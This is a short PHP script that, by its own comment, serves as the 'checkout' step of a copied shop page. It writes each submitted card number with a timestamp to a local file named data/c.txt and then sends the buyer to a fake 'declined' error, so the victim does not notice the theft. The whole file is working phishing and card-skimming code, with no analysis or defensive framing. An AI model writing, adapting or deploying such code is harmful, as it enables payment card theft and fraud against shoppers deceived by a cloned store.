<?php
// "checkout" step of a copied shop page: the card goes to a text file, the buyer to an error
$log = fopen(__DIR__ . '/data/c.txt', 'a');
fwrite($log, date('Y-m-d H:i') . ' | Card number: ' . $_POST['card_number'] . "\n");
fclose($log);
header('Location: index.php?error=declined');
